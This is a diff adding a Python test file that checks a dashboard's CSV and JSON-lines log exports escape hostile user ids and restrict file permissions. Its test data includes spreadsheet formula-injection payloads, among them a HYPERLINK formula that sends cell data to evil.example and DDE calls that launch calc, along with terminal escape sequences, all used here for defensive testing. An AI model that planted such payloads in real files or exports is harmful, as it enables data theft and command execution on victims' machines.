@@ -1,0 +1,105 @@
+"""Hostile files: what the dashboard writes (CSV, JSON lines, exports), who may read its files and the
+hub's, and local files that are damaged. Real files on disk, the real ``switchroom logs`` command, a
+real hub process and the app headless."""
+
+from pathlib import Path
+import csv
+import json
+import re
+import subprocess
+import sys
+
+from store import EventLog
+from store.filters import RecordFilter
+from tests.hubproc import bare_env
+from tui.export import export_records
+from tui.known_hubs import EMBEDDED, remember_hub
+
+HUB_ID = "0123456789abcdef0123456789abcdef"
+CONTROL_BYTES = re.compile(rb"[\x00-\x1f\x7f]|\xc2[\x80-\x9f]")
+"""A raw C0 or DEL byte, or a C1 character in UTF-8."""
+
+# user id → how a CSV cell must show it (OWASP: a leading ' before = + - @ tab CR; controls as \xNN text)
+HOSTILE_USER_IDS = {
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "\t=1+1": "'\\x09=1+1",
+    "\r=1+1": "'\\x0d=1+1",
+    "title\x1b]0;pwned\x07": "title\\x1b]0;pwned\\x07",
+    "nul\x00byte": "nul\\x00byte",
+    "csi\x9b31m and del\x7f": "csi\\x9b31m and del\\x7f",
+    "two\nlines": "two\\x0alines",
+    "-5": "-5",  # a plain number is no formula: it stays a number
+    "user-001": "user-001",
+}
+
+
+def hostile_records() -> list[dict[str, object]]:
+    return [{"seq": n, "ts": f"2026-12-06T05:00:{n:02d}.000Z", "kind": "api_call", "direction": "inbound",
+             "connection_id": "evening-glow", "op_id": "lights.change_color", "status_code": 422,
+             "latency_ms": -5 if n == 1 else 12.5, "user_id": user_id, "error_code": "=1+1"}
+            for n, user_id in enumerate(HOSTILE_USER_IDS, start=1)]
+
+
+def make_cache(cache_dir: Path, records: list[dict[str, object]]) -> Path:
+    """The embedded hub's cache as the dashboard leaves it, holding ``records``."""
+    path = cache_dir / "hubs" / f"{HUB_ID}.sqlite"
+    log = EventLog(path, replica=True)
+    log.set_meta("hub_id", HUB_ID)
+    log.replicate(records, len(records))
+    log.close()
+    remember_hub(cache_dir, EMBEDDED, HUB_ID)
+    return path
+
+
+def logs(*args: str, cache_dir: Path, **env: str) -> subprocess.CompletedProcess[bytes]:
+    command = [str(Path(sys.executable).with_name("switchroom")), "logs", "--cache-dir", str(cache_dir), *args]
+    return subprocess.run(command, capture_output=True, timeout=120, env=bare_env(**env))
+
+
+def assert_csv_neutralised(raw: bytes) -> None:
+    """Every hostile user id is shown as the rule says, and no control byte is in the file but the
+    CSV's own CR LF line ends."""
+    assert not CONTROL_BYTES.search(raw.replace(b"\r\n", b""))
+    rows = list(csv.DictReader(raw.decode("utf-8").splitlines()))
+    assert [row["user_id"] for row in rows] == list(HOSTILE_USER_IDS.values())
+    assert {row["error_code"] for row in rows} == {"'=1+1"}
+    assert [row["latency_ms"] for row in rows] == ["-5", *["12.5"] * (len(rows) - 1)]
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (
+                not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell)), cell
+
+
+def test_logs_csv_neutralises_formulas_and_control_characters(tmp_path: Path) -> None:
+    make_cache(tmp_path, hostile_records())
+    result = logs("--csv", cache_dir=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert_csv_neutralised(result.stdout)
+
+
+def test_logs_json_escapes_every_control_character(tmp_path: Path) -> None:
+    make_cache(tmp_path, hostile_records())
+    result = logs("--json", cache_dir=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert not CONTROL_BYTES.search(result.stdout.replace(b"\n", b""))
+    assert b"\\u001b]0;pwned\\u0007" in result.stdout and b"\\u009b31m" in result.stdout
+    assert [json.loads(line)["user_id"] for line in result.stdout.splitlines()] == list(HOSTILE_USER_IDS)
+
+
+def test_export_csv_and_json_lines_are_neutralised_and_private(tmp_path: Path) -> None:
+    log = EventLog(make_cache(tmp_path / "cache", hostile_records()))
+    try:
+        count, written = export_records(log, RecordFilter(kinds=("api_call",)), tmp_path / "out.csv")
+        assert count == len(HOSTILE_USER_IDS)
+        assert_csv_neutralised(written.read_bytes())
+        assert written.stat().st_mode & 0o777 == 0o600
+        count, lines = export_records(log, RecordFilter(kinds=("api_call",)), tmp_path / "out.jsonl")
+    finally:
+        log.close()
+    raw = lines.read_bytes()
+    assert not CONTROL_BYTES.search(raw.replace(b"\n", b""))
+    assert [json.loads(line)["user_id"] for line in raw.splitlines()] == list(HOSTILE_USER_IDS)
+    assert lines.stat().st_mode & 0o777 == 0o600
